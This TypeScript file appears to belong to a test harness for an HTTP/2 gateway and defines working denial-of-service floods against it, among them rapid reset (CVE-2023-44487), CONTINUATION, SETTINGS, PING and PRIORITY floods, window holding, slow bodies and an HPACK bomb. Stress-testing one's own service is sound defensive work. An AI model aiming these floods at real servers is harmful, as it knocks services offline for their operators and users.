import type { Socket } from 'node:net'
import {
  errorCode,
  flag,
  frame,
  frameType,
  headerBlock,
  headersFrame,
  preface,
  requestFields,
  resetFrame,
} from '../../../test/support/http2-frames.ts'
import type { Attack, Field } from '../attack.ts'

/** Connections of each flood; one that the gateway ends is opened anew. */
const connections = 10

const settings = frame(frameType.settings, 0, 0)
const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8))
const oneSetting = frame(frameType.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))
const bigTable = frame(frameType.settings, 0, 0, Buffer.from([0, 1, 0, 0, 16, 0]))
const fields = (path = '/answered/x', method = 'GET'): [string, string][] => requestFields(path, method, 'localhost')

/** What HTTP/2 makes possible. */
export const frameAttacks: readonly Attack[] = [
  flood('rapid-reset', 'streams opened and reset (CVE-2023-44487)', 'streams', 5000, (id) => [
    headersFrame(id, fields('/open/x')),
    resetFrame(id, errorCode.cancel),
  ]),
  flood('rapid-reset-by-server', 'streams that the gateway has to reset (CVE-2025-8671)', 'streams', 5000, (id) => [
    headersFrame(id, fields()),
    frame(frameType.window, 0, id, Buffer.from([0, 0, 0, 0])),
  ]),
  {
    name: 'continuation-flood',
    does: 'heads that never end (CVE-2024-27316), 2,000 CONTINUATION frames of 1 KB a second',
    unit: 'frames',
    begin(field) {
      const piece = headerBlock([['x-more', 'x'.repeat(1000)]])
      floodWith(field, 2000, (socket, id, isFirst) => {
        if (isFirst) socket.write(headersFrame(id, fields(), 0))
        socket.write(frame(frameType.continuation, 0, id, piece))
        return id
      })
    },
  },
  flood('settings-flood', 'SETTINGS that must be answered (CVE-2019-9515)', 'frames', 10_000, () => [oneSetting]),
  flood('ping-flood', 'PINGs that must be answered (CVE-2019-9512)', 'frames', 10_000, () => [ping]),
  {
    name: 'empty-data-flood',
    does: 'DATA frames without content (CVE-2019-9518), 20,000/s',
    unit: 'frames',
    begin(field) {
      const heads = headersFrame(1, fields('/open/x', 'POST'), flag.endHeaders)
      const empty = frame(frameType.data, 0, 1)
      floodWith(field, 20_000, (socket, id, isFirst) => {
        socket.write(isFirst ? heads : empty)
        return id
      })
    },
  },
  flood('priority-flood', 'PRIORITY frames (CVE-2019-9513)', 'frames', 20_000, (id) => [
    frame(frameType.priority, 0, id, Buffer.from([0, 0, 0, 0, 16])),
  ]),
  {
    name: 'window-hold',
    does: '20 connections × 100 streams that ask for 1 MiB with a window of nothing (CVE-2019-9517)',
    unit: 'streams',
    maxGrowthMib: 96,
    begin(field) {
      const noWindow = frame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))
      field.hold(20, () => {
        const socket = field.open(field.nextAddress(20))
        socket.once('connect', () => {
          socket.write(Buffer.concat([preface, noWindow]))
          for (let id = 1; id < 200; id += 2) socket.write(headersFrame(id, fields('/open/large')))
          field.count += 100
        })
        socket.resume()
        return socket
      })
    },
  },
  {
    name: 'slow-bodies-h2',
    does: '20 connections × 100 streams whose bodies come by a byte every half second',
    unit: 'streams',
    begin(field) {
      field.hold(20, () => {
        const socket = field.open(field.nextAddress(20))
        socket.once('connect', () => {
          socket.write(Buffer.concat([preface, settings]))
          const ids = Array.from({ length: 100 }, (_, i) => 2 * i + 1)
          for (const id of ids) socket.write(headersFrame(id, fields('/open/x', 'POST'), flag.endHeaders))
          field.count += 100
          const byte = Buffer.from('x')
          const timer = setInterval(() => socket.write(Buffer.concat(ids.map((id) => frame(frameType.data, 0, id, byte)))), 500)
          socket.once('close', () => clearInterval(timer))
        })
        socket.resume()
        return socket
      })
    },
  },
  {
    name: 'hpack-bomb',
    does: 'one entry of 4 KB in the table, named 4,000 times in each head (CVE-2016-6581), 200 heads/s',
    unit: 'heads',
    begin(field) {
      // A literal with incremental indexing (RFC 7541 §6.2.1) of almost the whole table; then index 62, one byte each.
      const value = Buffer.from('v'.repeat(3900))
      const entry = Buffer.concat([
        Buffer.from([0x40, 1]),
        Buffer.from('b'),
        Buffer.from([0x7f, ...integerRest(value.length - 127)]),
        value,
      ])
      const bomb = Buffer.concat([headerBlock(fields()), Buffer.alloc(4000, 0x80 | 62)])
      const setUp = Buffer.concat([headerBlock(fields()), entry])
      floodWith(field, 200, (socket, id, isFirst) => {
        if (isFirst) socket.write(Buffer.concat([bigTable, frame(frameType.headers, flag.endStream | flag.endHeaders, id, setUp)]))
        else socket.write(frame(frameType.headers, flag.endStream | flag.endHeaders, id, bomb))
        return id + 2
      })
    },
  },
  {
    name: 'many-headers-h2',
    does: 'heads of 95 small header lines over HTTP/2, 1,000/s',
    unit: 'heads',
    begin(field) {
      const list = [...fields(), ...Array.from({ length: 95 }, (_, i): [string, string] => [`x-${i}`, 'y'])]
      const block = headerBlock(list)
      floodWith(field, 1000, (socket, id) => {
        socket.write(frame(frameType.headers, flag.endStream | flag.endHeaders, id, block))
        return id + 2
      })
    },
  },
]

/** So many of these frames a second, over all connections. */
function flood(name: string, does: string, unit: string, perSecond: number, frames: (id: number) => Buffer[]): Attack {
  return {
    name,
    does: `${does}, ${perSecond.toLocaleString('en')}/s`,
    unit,
    begin: (field) =>
      floodWith(field, perSecond, (socket, id) => {
        socket.write(Buffer.concat(frames(id)))
        return id + 2
      }),
  }
}

/** Writes in turn to connections; `send` gives the id of the connection's next stream. */
function floodWith(field: Field, perSecond: number, send: (socket: Socket, id: number, isFirst: boolean) => number): void {
  const ids = new WeakMap<Socket, number>()
  const next = field.rotation(connections, (ready) => {
    const socket = field.open(field.nextAddress(50))
    socket.once('connect', () => {
      socket.write(Buffer.concat([preface, settings]))
      ready()
    })
    socket.resume()
    return socket
  })
  field.every(perSecond, () => {
    const socket = next()
    if (socket === undefined) return
    const id = ids.get(socket)
    ids.set(socket, send(socket, id ?? 1, id === undefined))
    field.count++
  })
}

/** What follows a prefix of ones of an integer (RFC 7541 §5.1). */
function integerRest(value: number): number[] {
  const bytes: number[] = []
  let rest = value
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128)
  return [...bytes, rest]
}
